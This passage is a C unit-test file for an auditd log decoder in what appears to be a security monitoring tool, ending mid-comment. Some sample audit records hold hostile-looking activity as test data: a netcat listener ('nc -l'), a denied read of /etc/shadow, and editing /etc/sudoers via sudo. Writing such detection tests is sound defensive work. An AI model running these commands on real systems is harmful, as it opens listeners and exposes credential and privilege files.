/*
 * Unit tests for decode_auditd through decode_line: audit.log records of
 * every common type, hex-encoded values, the enriched format, records
 * wrapped in syslog (audisp-syslog, kernel "audit:" lines), hostile input,
 * and the enrichment cache across the records of one event.
 *
 * Table-driven: every row of au_cases is its own cmocka test. A row lists
 * fields that must be present with exactly that value (looked up by exact
 * name, so "SYSCALL" never falls back to "syscall") and fields that must
 * be absent. Lines are copied to a heap buffer of exactly their length so
 * AddressSanitizer sees any read past them, and every value must lie in
 * that buffer, in the event's scratch area, or be a static string.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "decode.h"
#include "ms_util.h"
#include "test_decode_util.h"

/* 2026-11-25T12:00:00Z */
#define RECV_MS INT64_C(1795608000000)
/* audit(1795604400.123:...) = 2026-11-25T11:00:00.123Z */
#define T_AU INT64_C(1795604400123)
#define MAX_EXP 24
#define MAX_ABSENT 6

#define STAMP "msg=audit(1795604400.123:4567): "
#define SYSLOG_PFX "Nov 25 11:00:00 web1 "

struct field_exp {
	const char *name;
	const char *value;
};

struct au_case {
	const char *name;
	const char *line;
	const char *product, *service, *category;	/* NULL: must be NULL */
	int64_t time_ms;	/* 0: not checked */
	struct field_exp f[MAX_EXP];
	const char *absent[MAX_ABSENT];
};

#define F(n, v) { (n), (v) }
#define AUDITD .product = "linux", .service = "auditd"

static const struct au_case au_cases[] = {
	/* ---- audit.log record types ---- */
	{ .name = "SYSCALL execve",
	  .line = "type=SYSCALL " STAMP "arch=c000003e syscall=59 success=yes exit=0 a0=55d5 "
	      "a1=55d6 a2=55d7 a3=0 items=2 ppid=1000 pid=1001 auid=1000 uid=0 gid=0 euid=0 "
	      "suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"bash\" "
	      "exe=\"/usr/bin/bash\" subj=unconfined key=\"rootcmd\"",
	  AUDITD, .time_ms = T_AU,
	  .f = { F("type", "SYSCALL"), F("serial", "4567"), F("arch", "c000003e"),
	      F("syscall", "59"), F("SYSCALL", "execve"), F("success", "yes"), F("exit", "0"),
	      F("a0", "55d5"), F("a3", "0"), F("items", "2"), F("ppid", "1000"),
	      F("pid", "1001"), F("auid", "1000"), F("uid", "0"), F("euid", "0"),
	      F("tty", "pts0"), F("ses", "3"), F("comm", "bash"), F("exe", "/usr/bin/bash"),
	      F("subj", "unconfined"), F("key", "rootcmd") },
	  .absent = { "msg", "Image", "CommandLine" } },
	{ .name = "SYSCALL a0..a3 are numbers, never hex-decoded",
	  .line = "type=SYSCALL " STAMP "arch=c000003e syscall=2 success=no exit=-13 a0=deadbeef "
	      "a1=41 comm=\"cat\" exe=\"/usr/bin/cat\" key=(null)",
	  AUDITD, .f = { F("a0", "deadbeef"), F("a1", "41"), F("SYSCALL", "open"),
	      F("exit", "-13") },
	  /* key=(null): no key (a rule's "key: null" matches), not the text "(null)" */
	  .absent = { "key" } },
	{ .name = "quoted \"(null)\" is a value",
	  .line = "type=SYSCALL " STAMP "arch=c000003e syscall=2 success=no exit=-13 "
	      "comm=\"(null)\" exe=(null) key=(null)",
	  AUDITD, .f = { F("comm", "(null)") }, .absent = { "exe", "key" } },
	{ .name = "SYSCALL finit_module",
	  .line = "type=SYSCALL " STAMP "arch=c000003e syscall=313 success=yes exit=0 "
	      "comm=\"modprobe\" exe=\"/usr/bin/kmod\" key=\"modules\"",
	  AUDITD, .f = { F("SYSCALL", "finit_module"), F("key", "modules") } },
	{ .name = "SYSCALL other arch: no syscall name",
	  .line = "type=SYSCALL " STAMP "arch=c00000b7 syscall=221 success=yes exit=0 comm=\"ls\"",
	  AUDITD, .f = { F("syscall", "221"), F("arch", "c00000b7") },
	  .absent = { "SYSCALL" } },
	{ .name = "SYSCALL hex comm and exe, hex key",
	  .line = "type=SYSCALL " STAMP "arch=c000003e syscall=59 comm=2F746D702F612062 "
	      "exe=2F746D702F612062 key=6964656E74697479",
	  AUDITD, .f = { F("comm", "/tmp/a b"), F("exe", "/tmp/a b"), F("key", "identity") } },
	{ .name = "EXECVE plain and hex arguments",
	  .line = "type=EXECVE " STAMP "argc=3 a0=\"bash\" a1=\"-c\" a2=6563686F2022686920746865726522",
	  AUDITD, .category = "process_creation", .time_ms = T_AU,
	  .f = { F("type", "EXECVE"), F("serial", "4567"), F("argc", "3"), F("a0", "bash"),
	      F("a1", "-c"), F("a2", "echo \"hi there\""),
	      F("CommandLine", "bash -c echo \"hi there\"") },
	  .absent = { "Image", "exe" } },
	{ .name = "EXECVE lower-case hex",
	  .line = "type=EXECVE " STAMP "argc=2 a0=\"ls\" a1=2f746d702f612062",
	  AUDITD, .category = "process_creation",
	  .f = { F("a1", "/tmp/a b"), F("CommandLine", "ls /tmp/a b") } },
	{ .name = "EXECVE odd-length hex stays as written",
	  .line = "type=EXECVE " STAMP "argc=2 a0=\"x\" a1=ABC",
	  AUDITD, .category = "process_creation",
	  .f = { F("a1", "ABC"), F("CommandLine", "x ABC") } },
	{ .name = "EXECVE non-hex unquoted value stays as written",
	  .line = "type=EXECVE " STAMP "argc=2 a0=\"x\" a1=zz",
	  AUDITD, .category = "process_creation", .f = { F("a1", "zz") } },
	{ .name = "EXECVE argument split over pieces",
	  .line = "type=EXECVE " STAMP "argc=3 a0=\"sh\" a1_len=6 a1[0]=\"abc\" a1[1]=\"def\" a2=\"z\"",
	  AUDITD, .category = "process_creation",
	  .f = { F("a1_len", "6"), F("a1[0]", "abc"), F("a1[1]", "def"), F("a1", "abcdef"),
	      F("a0", "sh"), F("a2", "z"), F("CommandLine", "sh abcdef z") } },
	{ .name = "EXECVE argument split over hex pieces",
	  .line = "type=EXECVE " STAMP "argc=2 a0=\"sh\" a1_len=12 a1[0]=2D6320 a1[1]=2761207C2062"
	      " a1[2]=27",
	  AUDITD, .category = "process_creation",
	  .f = { F("a1", "-c 'a | b'"), F("CommandLine", "sh -c 'a | b'") } },
	{ .name = "EXECVE split arguments, two of them, past a31",
	  .line = "type=EXECVE " STAMP "argc=41 a0=\"x\" a39[0]=\"p\" a39[1]=\"q\" a40[0]=\"r\" a40[1]=\"s\"",
	  AUDITD, .category = "process_creation",
	  .f = { F("a39", "pq"), F("a40", "rs"), F("CommandLine", "x pq rs") } },
	{ .name = "CWD",
	  .line = "type=CWD " STAMP "cwd=\"/root\"",
	  AUDITD, .f = { F("type", "CWD"), F("cwd", "/root"), F("serial", "4567") } },
	{ .name = "CWD hex",
	  .line = "type=CWD " STAMP "cwd=2F746D702F612062",
	  AUDITD, .f = { F("cwd", "/tmp/a b") } },
	{ .name = "PATH",
	  .line = "type=PATH " STAMP "item=0 name=\"/usr/bin/bash\" inode=123 dev=08:01 "
	      "mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 "
	      "cap_fe=0 cap_fver=0 cap_frootid=0",
	  AUDITD, .f = { F("type", "PATH"), F("item", "0"), F("name", "/usr/bin/bash"),
	      F("inode", "123"), F("dev", "08:01"), F("mode", "0100755"), F("ouid", "0"),
	      F("nametype", "NORMAL"), F("cap_frootid", "0") },
	  .absent = { "exe", "CommandLine" } },
	{ .name = "PATH hex name, (null) name",
	  .line = "type=PATH " STAMP "item=1 name=2F746D702F612062 nametype=CREATE",
	  AUDITD, .f = { F("name", "/tmp/a b"), F("nametype", "CREATE") } },
	{ .name = "PROCTITLE hex with NUL separators",
	  .line = "type=PROCTITLE " STAMP "proctitle=62617368002D63006964",
	  AUDITD, .f = { F("type", "PROCTITLE"), F("proctitle", "bash -c id") } },
	{ .name = "PROCTITLE quoted",
	  .line = "type=PROCTITLE " STAMP "proctitle=\"/usr/sbin/cron\"",
	  AUDITD, .f = { F("proctitle", "/usr/sbin/cron") } },
	{ .name = "USER_CMD with inner msg and hex cmd",
	  .line = "type=USER_CMD " STAMP "pid=2000 uid=1000 auid=1000 ses=3 "
	      "subj=unconfined msg='cwd=\"/home/a\" cmd=2F7573722F62696E2F76696D202F6574632F7375646F657273 "
	      "exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'",
	  AUDITD, .f = { F("type", "USER_CMD"), F("pid", "2000"), F("uid", "1000"),
	      F("auid", "1000"), F("ses", "3"), F("cwd", "/home/a"),
	      F("cmd", "/usr/bin/vim /etc/sudoers"), F("exe", "/usr/bin/sudo"),
	      F("terminal", "pts/0"), F("res", "success"),
	      F("msg", "cwd=\"/home/a\" cmd=2F7573722F62696E2F76696D202F6574632F7375646F657273 "
	          "exe=\"/usr/bin/sudo\" terminal=pts/0 res=success") } },
	{ .name = "USER_AUTH failed",
	  .line = "type=USER_AUTH " STAMP "pid=3 uid=1000 auid=1000 ses=3 msg='op=PAM:authentication "
	      "grantors=? acct=\"root\" exe=\"/usr/bin/su\" hostname=? addr=? terminal=pts/0 res=failed'",
	  AUDITD, .f = { F("op", "PAM:authentication"), F("grantors", "?"), F("acct", "root"),
	      F("exe", "/usr/bin/su"), F("hostname", "?"), F("res", "failed") } },
	{ .name = "ADD_USER",
	  .line = "type=ADD_USER " STAMP "pid=5 uid=0 auid=1000 ses=3 msg='op=adding user id=1001 "
	      "exe=\"/usr/sbin/useradd\" hostname=web1 addr=? terminal=pts/0 res=success'",
	  AUDITD, .f = { F("type", "ADD_USER"), F("op", "adding"), F("id", "1001"),
	      F("exe", "/usr/sbin/useradd") } },
	{ .name = "USER_CHAUTHTOK hex acct",
	  .line = "type=USER_CHAUTHTOK " STAMP "pid=5 uid=0 auid=0 ses=1 msg='op=PAM:chauthtok "
	      "acct=2F746D702F612062 exe=\"/usr/bin/passwd\" res=success'",
	  AUDITD, .f = { F("acct", "/tmp/a b"), F("res", "success") } },
	{ .name = "LOGIN with dashed keys",
	  .line = "type=LOGIN " STAMP "pid=9 uid=0 old-auid=4294967295 auid=1000 tty=(none) "
	      "old-ses=4294967295 ses=3 res=1",
	  AUDITD, .f = { F("old-auid", "4294967295"), F("auid", "1000"), F("tty", "(none)"),
	      F("old-ses", "4294967295"), F("res", "1") } },
	{ .name = "enriched SYSCALL",
	  .line = "type=SYSCALL " STAMP "arch=c000003e syscall=59 success=yes exit=0 auid=1000 "
	      "uid=0 comm=\"id\" exe=\"/usr/bin/id\" key=(null)\x1d" "ARCH=x86_64 SYSCALL=execve "
	      "AUID=\"alice\" UID=\"root\" GID=\"root\"",
	  AUDITD, .f = { F("syscall", "59"), F("SYSCALL", "execve"), F("ARCH", "x86_64"),
	      F("AUID", "alice"), F("auid", "1000"), F("UID", "root"), F("uid", "0"),
	      F("GID", "root") }, .absent = { "key" } },
	{ .name = "enriched USER_LOGIN",
	  .line = "type=USER_LOGIN " STAMP "pid=1 uid=0 auid=1000 ses=4 msg='op=login id=1000 "
	      "exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.7 terminal=/dev/pts/1 "
	      "res=success'\x1dUID=\"root\" AUID=\"alice\" ID=\"alice\"",
	  AUDITD, .f = { F("addr", "198.51.100.7"), F("AUID", "alice"), F("ID", "alice"),
	      F("id", "1000") } },
	{ .name = "node= prefix",
	  .line = "node=web1 type=CWD " STAMP "cwd=\"/\"",
	  AUDITD, .f = { F("node", "web1"), F("type", "CWD"), F("cwd", "/") } },
	{ .name = "stamp with fewer fraction digits",
	  .line = "type=CWD msg=audit(1795604400.1:9): cwd=\"/\"",
	  AUDITD, .time_ms = INT64_C(1795604400100), .f = { F("serial", "9") } },

	/* ---- through syslog ---- */
	{ .name = "audisp-syslog",
	  .line = SYSLOG_PFX "audisp-syslog: type=EXECVE " STAMP "argc=2 a0=\"nc\" a1=\"-l\"",
	  AUDITD, .category = "process_creation", .time_ms = T_AU,
	  .f = { F("a0", "nc"), F("CommandLine", "nc -l") } },
	{ .name = "kernel AVC numeric type with printk time",
	  .line = SYSLOG_PFX "kernel: [   12.345678] audit: type=1400 audit(1795604400.123:88): "
	      "apparmor=\"DENIED\" operation=\"open\" profile=\"/usr/sbin/cupsd\" "
	      "name=\"/etc/shadow\" pid=77 comm=\"cupsd\" requested_mask=\"r\" denied_mask=\"r\"",
	  AUDITD, .time_ms = T_AU,
	  .f = { F("type", "AVC"), F("serial", "88"), F("apparmor", "DENIED"),
	      F("name", "/etc/shadow"), F("denied_mask", "r") } },
	{ .name = "kernel PROCTITLE numeric type",
	  .line = SYSLOG_PFX "kernel: audit: type=1327 audit(1795604400.123:89): proctitle=62617368002D63006964",
	  AUDITD, .f = { F("type", "PROCTITLE"), F("proctitle", "bash -c id") } },
	{ .name = "unknown numeric type kept",
	  .line = "type=9999 msg=audit(1795604400.123:89): x=1",
	  AUDITD, .f = { F("type", "9999"), F("x", "1") } },
	{ .name = "kernel firewall line is still a firewall line",
	  .line = SYSLOG_PFX "kernel: [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.5 DST=10.0.0.1 PROTO=TCP SPT=1 DPT=22",
	  .product = "linux", .category = "firewall", .f = { F("src_ip", "203.0.113.5") } },

	/* ---- hostile ---- */
	{ .name = "unterminated double quote runs to the end",
	  .line = "type=SYSCALL " STAMP "comm=\"bash exe=/x",
	  AUDITD, .f = { F("comm", "bash exe=/x") }, .absent = { "exe" } },
	{ .name = "unterminated inner msg",
	  .line = "type=USER_CMD " STAMP "pid=1 msg='cwd=\"/\" cmd=6964",
	  AUDITD, .f = { F("cwd", "/"), F("cmd", "id") } },
	{ .name = "empty values and bare words",
	  .line = "type=SYSCALL " STAMP "comm= exe=\"\" (null) = =x key=",
	  AUDITD, .f = { F("comm", ""), F("exe", ""), F("key", "") } },
	{ .name = "key with odd characters dropped",
	  .line = "type=CWD " STAMP "c$w/d=1 cwd=\"/\"",
	  AUDITD, .f = { F("cwd", "/") }, .absent = { "c$w/d" } },
	{ .name = "missing msg=audit: not an audit record",
	  .line = "type=SYSCALL arch=c000003e syscall=59 comm=\"bash\"",
	  .product = NULL, .f = { { NULL, NULL } } },
	{ .name = "bad stamp: letters",
	  .line = "type=SYSCALL msg=audit(abc.def:1): comm=\"x\"", .f = { { NULL, NULL } } },
	{ .name = "bad stamp: no serial",
	  .line = "type=SYSCALL msg=audit(1795604400.123:): comm=\"x\"", .f = { { NULL, NULL } } },
	{ .name = "bad stamp: unterminated",
	  .line = "type=SYSCALL msg=audit(1795604400.123:5", .f = { { NULL, NULL } } },
	{ .name = "bad stamp: too many digits",
	  .line = "type=SYSCALL msg=audit(17956044001234567.123:5): x=1", .f = { { NULL, NULL } } },
	{ .name = "empty type",
	  .line = "type= msg=audit(1795604400.123:5): x=1", .f = { { NULL, NULL } } },
	{ .name = "bare type= line",
	  .line = "type=", .f = { { NULL, NULL } } },
	{ .name = "printk bracket never closed",
	  .line = "[ 1.2 audit: type=CWD msg=audit(1795604400.123:5): cwd=\"/\"",
	  .f = { { NULL, NULL } } },
	{ .name = "stamp only, no body",
	  .line = "type=EOE msg=audit(1795604400.123:5):",
	  AUDITD, .f = { F("type", "EOE"), F("serial", "5") } },
};

/* ---- helpers ------------------------------------------------------------ */

static bool
in_range(struct ms_str s, const char *lo, size_t len)
{
	uintptr_t b = (uintptr_t)lo, p = (uintptr_t)s.p;

	return s.p != NULL && p >= b && s.len <= len && p - b <= len - s.len;
}

static void
dump_fields(const struct decoded *d)
{
	for (unsigned i = 0; i < d->nfields && i < 80; i++)
		print_message("  got %s=\"%.*s\"\n", d->fields[i].name,
		    (int)(d->fields[i].value.len > 200 ? 200 : d->fields[i].value.len),
		    d->fields[i].value.p);
}

static void
check_field(const char *what, const struct decoded *d, const char *name, const char *want)
{
	const struct ms_str *got = field_exact(d, name);

	if (got == NULL) {
		dump_fields(d);
		fail_msg("%s: field %s missing", what, name);
	}
	if (!ms_str_eq(*got, want)) {
		dump_fields(d);
		fail_msg("%s: %s = \"%.*s\", want \"%s\"", what, name, (int)got->len, got->p, want);
	}
}

static void
check_absent(const char *what, const struct decoded *d, const char *name)
{
	if (field_exact(d, name) != NULL) {
		dump_fields(d);
		fail_msg("%s: field %s present", what, name);
	}
}

/* Bounds, and every value within the line, scratch, or a static string. */
static void
check_event(const char *what, const struct decoded *d, const char *buf, size_t len)
{
	if (d->nfields > DECODE_MAX_FIELDS || d->scratch_used > DECODE_SCRATCH)
		fail_msg("%s: counters out of range", what);
	for (unsigned i = 0; i < d->nfields; i++) {
		const struct decode_field *f = &d->fields[i];
		if (f->name == NULL || f->name[0] == '\0')
			fail_msg("%s: field %u without a name", what, i);
		if (f->value.p == NULL)
			fail_msg("%s: field %s has a NULL value", what, f->name);
		/* auditd: only "type" and "SYSCALL" may be static strings */
		if (d->service != NULL && strcmp(d->service, "auditd") == 0 &&
		    !in_range(f->value, buf, len) && !in_range(f->value, d->scratch, d->scratch_used) &&
		    strcmp(f->name, "type") != 0 && strcmp(f->name, "SYSCALL") != 0)
			fail_msg("%s: field %s outside line and scratch", what, f->name);
	}
}

static const char *
opt(const char *s)
{
	return s != NULL ? s : "(null)";
}

static void
check_logsource(const char *what, const char *kind, const char *got, const char *want)
{
	if ((got == NULL) != (want == NULL) || (got != NULL && strcmp(got, want) != 0))
		fail_msg("%s: %s = %s, want %s", what, kind, opt(got), opt(want));
}

/* ---- the table ---------------------------------------------------------- */

static void
test_au_case(void **state)
{
	const struct au_case *c = *state;
	size_t len = strlen(c->line);
	struct decode_ctx ctx = { .recv_ms = RECV_MS };
	struct decoded *d = malloc(sizeof(*d));
	char *buf = dup_exact(c->line, len);

	assert_non_null(d);
	decode_line(buf, len, &ctx, d);
	check_event(c->name, d, buf, len);
	check_logsource(c->name, "product", d->product, c->product);
	check_logsource(c->name, "service", d->service, c->service);
	check_logsource(c->name, "category", d->category, c->category);
	if (c->time_ms != 0 && (!d->time_from_line || d->time_ms != c->time_ms))
		fail_msg("%s: time %lld (from line %d), want %lld", c->name,
		    (long long)d->time_ms, d->time_from_line, (long long)c->time_ms);
	if (c->product == NULL && (d->nfields != 0 || d->time_ms != RECV_MS))
		fail_msg("%s: not an audit record, yet %u fields", c->name, d->nfields);
	for (size_t k = 0; k < MAX_EXP && c->f[k].name != NULL; k++)
		check_field(c->name, d, c->f[k].name, c->f[k].value);
	for (size_t k = 0; k < MAX_ABSENT && c->absent[k] != NULL; k++)
		check_absent(c->name, d, c->absent[k]);
	free(buf);
	free(d);
}

/* ---- single tests ------------------------------------------------------- */

static void
decode_str(const char *line, const struct decode_ctx *ctx, struct decoded *d)
{
	decode_line(line, strlen(line), ctx, d);
}

#define EV_SYSCALL "type=SYSCALL msg=audit(1795604400.123:%u): arch=c000003e syscall=59 " \
	"success=yes exit=0 ppid=1 pid=2 auid=1000 uid=0 comm=\"bash\" exe=\"/usr/bin/bash\" key=\"rootcmd\""
#define EV_EXECVE "type=EXECVE msg=audit(1795604400.123:%u): argc=3 a0=\"bash\" a1=\"-c\" " \
	"a2=6563686F2022686920746865726522"
#define EV_CWD "type=CWD msg=audit(1795604400.123:%u): cwd=\"/root\""
#define EV_PATH "type=PATH msg=audit(1795604400.123:%u): item=0 name=\"/usr/bin/bash\" nametype=NORMAL"
#define EV_PROCTITLE "type=PROCTITLE msg=audit(1795604400.123:%u): proctitle=62617368002D63006964"

/* One of the EV_* lines for serial s into the char array buf. */
#define line_fmt(buf, sz, fmt, s) \
	assert_true(snprintf((buf), (sz), fmt, (unsigned)(s)) < (int)(sz))

/* SYSCALL then EXECVE, CWD, PATH, PROCTITLE of one event: the later ones are enriched. */
static void
test_cache_enriches(void **state)
{
	struct decode_ctx ctx = { .recv_ms = RECV_MS, .agent_id = "a1" };
	struct decoded *d = malloc(sizeof(*d));
	char line[512];

	(void)state;
	assert_non_null(d);
	assert_non_null(ctx.auditd = decode_auditd_cache_new());
	line_fmt(line, sizeof(line), EV_SYSCALL, 10);
	decode_str(line, &ctx, d);
	check_absent("syscall", d, "Image");

	line_fmt(line, sizeof(line), EV_EXECVE, 10);
	decode_str(line, &ctx, d);
	check_event("execve", d, line, strlen(line));
	assert_string_equal(d->category, "process_creation");
	check_field("execve", d, "exe", "/usr/bin/bash");
	check_field("execve", d, "Image", "/usr/bin/bash");
	check_field("execve", d, "comm", "bash");
	check_field("execve", d, "uid", "0");
	check_field("execve", d, "auid", "1000");
	check_field("execve", d, "key", "rootcmd");
	check_field("execve", d, "CommandLine", "bash -c echo \"hi there\"");

	line_fmt(line, sizeof(line), EV_CWD, 10);
	decode_str(line, &ctx, d);
	check_event("cwd", d, line, strlen(line));
	check_field("cwd", d, "cwd", "/root");
	check_field("cwd", d, "exe", "/usr/bin/bash");
	check_field("cwd", d, "CommandLine", "bash -c echo \"hi there\"");
	assert_null(d->category);

	line_fmt(line, sizeof(line), EV_PATH, 10);
	decode_str(line, &ctx, d);
	check_field("path", d, "name", "/usr/bin/bash");
	check_field("path", d, "key", "rootcmd");
	check_field("path", d, "Image", "/usr/bin/bash");
	check_field("path", d, "CommandLine", "bash -c echo \"hi there\"");

	line_fmt(line, sizeof(line), EV_PROCTITLE, 10);
	decode_str(line, &ctx, d);
	check_field("proctitle", d, "proctitle", "bash -c id");
	check_field("proctitle", d, "auid", "1000");

	/* another serial: nothing */
	line_fmt(line, sizeof(line), EV_PATH, 11);
	decode_str(line, &ctx, d);
	check_absent("other serial", d, "exe");

	/* another agent, same serial: nothing */
	ctx.agent_id = "a2";
	line_fmt(line, sizeof(line), EV_PATH, 10);
	decode_str(line, &ctx, d);
	check_absent("other agent", d, "exe");
	check_absent("other agent", d, "key");

	/* without a cache: nothing */
	ctx.agent_id = "a1";
	decode_auditd_cache_free(ctx.auditd);
	ctx.auditd = NULL;
	line_fmt(line, sizeof(line), EV_EXECVE, 10);
	decode_str(line, &ctx, d);
	check_absent("no cache", d, "exe");
	check_field("no cache", d, "CommandLine", "bash -c echo \"hi there\"");
	decode_auditd_cache_free(NULL);
	free(d);
}

/* A record's own value wins over the cached one; EXECVE without SYSCALL is plain. */
static void
test_cache_no_overwrite(void **state)
{
	struct decode_ctx ctx = { .recv_ms = RECV_MS };
	struct decoded *d = malloc(sizeof(*d));
	static const char sys[] = "type=SYSCALL msg=audit(1795604400.123:7): arch=c000003e "
	    "syscall=2 comm=\"vi\" exe=\"/usr/bin/vi\" uid=0 auid=1000 key=\"identity\"";
	static const char path[] = "type=PATH msg=audit(1795604400.123:7): item=0 "
	    "name=\"/etc/shadow\" nametype=NORMAL key=\"own\"";
	static const char lone[] = "type=EXECVE msg=audit(1795604400.123:8): argc=1 a0=\"id\"";

	(void)state;
	assert_non_null(d);
	assert_non_null(ctx.auditd = decode_auditd_cache_new());
	decode_str(sys, &ctx, d);
	decode_str(path, &ctx, d);
	check_field("path", d, "key", "own");
	check_field("path", d, "exe", "/usr/bin/vi");
	check_absent("path", d, "CommandLine");
	decode_str(lone, &ctx, d);
	check_absent("lone", d, "Image");
	check_field("lone", d, "CommandLine", "id");
	/* same serial, another second: a different event */
	decode_str("type=PATH msg=audit(1795604401.123:7): item=0 name=\"/x\"", &ctx, d);
	check_absent("other time", d, "exe");
	decode_auditd_cache_free(ctx.auditd);
	free(d);
}

/*
 * The cache's geometry, as decode_auditd.c has it: AU_CACHE_SETS sets of
 * AU_CACHE_WAYS events, an agent holding at most AU_CACHE_AGENT_WAYS of
 * its set.
 */
#define SETS 32
#define SET_WAYS 32
#define AGENT_WAYS 16

/*
 * The set of an agent id, as decode_auditd.c picks it (FNV-1a of the id,
 * multiplied, top bits). test_cache_same_set fails if the two disagree.
 */
static unsigned
set_of(const char *id)
{
	uint64_t h = UINT64_C(14695981039346656037);

	for (; *id; id++)
		h = (h ^ (unsigned char)*id) * UINT64_C(1099511628211);
	return (unsigned)((h * UINT64_C(0x9e3779b97f4a7c15)) >> 59);
}

/* "<prefix><n>" for the first n from 0 whose set is want and that differs from not. */
static void
id_in_set(char *buf, size_t sz, const char *prefix, unsigned want)
{
	for (unsigned n = 0; n < 100000; n++) {
		assert_true(snprintf(buf, sz, "%s%u", prefix, n) < (int)sz);
		if (set_of(buf) == want)
			return;
	}
	fail_msg("no id of set %u", want);
}

/* SYSCALL records of serials from..to (inclusive) from agent id. */
static void
add_events(struct decode_ctx *ctx, struct decoded *d, const char *id, unsigned from, unsigned to)
{
	char line[512];

	ctx->agent_id = id;
	for (unsigned s = from; s <= to; s++) {
		line_fmt(line, sizeof(line), EV_SYSCALL, s);
		decode_str(line, ctx, d);
	}
}

/* Whether agent id's CWD record of serial s is enriched (its event still cached). */
static bool
is_cached(struct decode_ctx *ctx, struct decoded *d, const char *id, unsigned s)
{
	char line[512];

	ctx->agent_id = id;
	line_fmt(line, sizeof(line), EV_CWD, s);
	decode_str(line, ctx, d);
	return field_exact(d, "exe") != NULL;
}

/* Agent id's events of serials from..to are all cached (want) or all not. */
static void
check_cached(struct decode_ctx *ctx, struct decoded *d, const char *id, unsigned from,
    unsigned to, bool want)
{
	for (unsigned s = from; s <= to; s++)
		if (is_cached(ctx, d, id, s) != want)
			fail_msg("agent %s serial %u: %s", id, s, want ? "evicted" : "still cached");
}

/*
 * One agent keeps its last AGENT_WAYS events, all of them interleaved at
 * once if need be; the next one replaces its oldest.
 */
static void
test_cache_evicts(void **state)
{
	struct decode_ctx ctx = { .recv_ms = RECV_MS };
	struct decoded *d = malloc(sizeof(*d));

	(void)state;
	assert_non_null(d);
	assert_non_null(ctx.auditd = decode_auditd_cache_new());
	/* AGENT_WAYS events begun, none finished: every one is enriched */
	add_events(&ctx, d, "a", 1, AGENT_WAYS);
	check_cached(&ctx, d, "a", 1, AGENT_WAYS, true);
	/* one more: the oldest goes */
	add_events(&ctx, d, "a", AGENT_WAYS + 1, AGENT_WAYS + 1);
	check_cached(&ctx, d, "a", 1, 1, false);
	check_cached(&ctx, d, "a", 2, AGENT_WAYS + 1, true);
	/* a SYSCALL seen again updates its slot rather than taking a new one */
	add_events(&ctx, d, "a", AGENT_WAYS + 1, AGENT_WAYS + 1);
	check_cached(&ctx, d, "a", 2, 2, true);
	/* many more: exactly the last AGENT_WAYS */
	add_events(&ctx, d, "a", 100, 400);
	check_cached(&ctx, d, "a", 100, 400 - AGENT_WAYS, false);
	check_cached(&ctx, d, "a", 400 - AGENT_WAYS + 1, 400, true);
	decode_auditd_cache_free(ctx.auditd);
	free(d);
}

/*
 * The review's case: agent A's event is split across two batches (SYSCALL
 * in one, EXECVE in the next) and another agent's batch of SYSCALL records
 * comes in between – four times the cache's slots of them. A's EXECVE is
 * still enriched (uid=0 and Image are what auditd_ssh_keygen_root needs),
 * whether the flooding agent shares A's set or not.
 */
static void
test_cache_flood(void **state)
{
	static const char sys[] = "type=SYSCALL msg=audit(1795604400.123:4567): arch=c000003e "
	    "syscall=59 success=yes exit=0 ppid=1 pid=2 auid=1000 uid=0 comm=\"ssh-keygen\" "
	    "exe=\"/usr/bin/ssh-keygen\"";
	static const char execve[] = "type=EXECVE msg=audit(1795604400.123:4567): argc=2 "
	    "a0=\"ssh-keygen\" a1=\"-q\"";
	struct decode_ctx ctx = { .recv_ms = RECV_MS };
	struct decoded *d = malloc(sizeof(*d));
	char other[32], same[32];

	(void)state;
	assert_non_null(d);
	id_in_set(other, sizeof(other), "noisy", (set_of("victim") + 1) % SETS);
	id_in_set(same, sizeof(same), "noisy", set_of("victim"));
	for (int k = 0; k < 2; k++) {
		const char *flooder = k == 0 ? other : same;

		assert_non_null(ctx.auditd = decode_auditd_cache_new());
		ctx.agent_id = "victim";
		decode_str(sys, &ctx, d);
		add_events(&ctx, d, flooder, 9000, 9000 + 4 * SETS * SET_WAYS - 1);
		ctx.agent_id = "victim";
		decode_str(execve, &ctx, d);
		check_field(flooder, d, "uid", "0");
		check_field(flooder, d, "auid", "1000");
		check_field(flooder, d, "Image", "/usr/bin/ssh-keygen");
		check_field(flooder, d, "CommandLine", "ssh-keygen -q");
		/* the flooder keeps its own last AGENT_WAYS */
		check_cached(&ctx, d, flooder, 9000 + 4 * SETS * SET_WAYS - AGENT_WAYS,
		    9000 + 4 * SETS * SET_WAYS - 1, true);
		decode_auditd_cache_free(ctx.auditd);
	}
	free(d);
}

/*
 * Three agents of one set. Two fill it with AGENT_WAYS events each; a
 * third agent's event replaces the set's oldest (the first agent's first),
 * which also shows that set_of agrees with the decoder. Then one of them
 * floods: it replaces only its own, the others' events stay.
 */
static void
test_cache_same_set(void **state)
{
	struct decode_ctx ctx = { .recv_ms = RECV_MS };
	struct decoded *d = malloc(sizeof(*d));
	char p[32], q[32], r[32], o[32];

	(void)state;
	assert_non_null(d);
	assert_non_null(ctx.auditd = decode_auditd_cache_new());
	id_in_set(p, sizeof(p), "p", 7);
	id_in_set(q, sizeof(q), "q", 7);
	id_in_set(r, sizeof(r), "r", 7);
	id_in_set(o, sizeof(o), "o", 8);
	add_events(&ctx, d, p, 1, AGENT_WAYS);
	add_events(&ctx, d, q, 1, AGENT_WAYS);
	check_cached(&ctx, d, p, 1, AGENT_WAYS, true);
	check_cached(&ctx, d, q, 1, AGENT_WAYS, true);
	/* the set is full: r's first event replaces the set's oldest */
	add_events(&ctx, d, r, 1, 1);
	check_cached(&ctx, d, p, 1, 1, false);
	check_cached(&ctx, d, p, 2, AGENT_WAYS, true);
	check_cached(&ctx, d, r, 1, 1, true);
	/* q holds its share: however many it adds, it replaces its own */
	add_events(&ctx, d, q, 1000, 1000 + 4 * SETS * SET_WAYS);
	check_cached(&ctx, d, p, 2, AGENT_WAYS, true);
	check_cached(&ctx, d, r, 1, 1, true);
	check_cached(&ctx, d, q, 1, AGENT_WAYS, false);
	/* an agent of another set does not touch this one */
	add_events(&ctx, d, o, 1, 4 * SETS * SET_WAYS);
	check_cached(&ctx, d, p, 2, AGENT_WAYS, true);
	check_cached(&ctx, d, r, 1, 1, true);
	decode_auditd_cache_free(ctx.auditd);
	free(d);
}

/*
 * Many rounds over the cache, three agents taking turns (two of them in
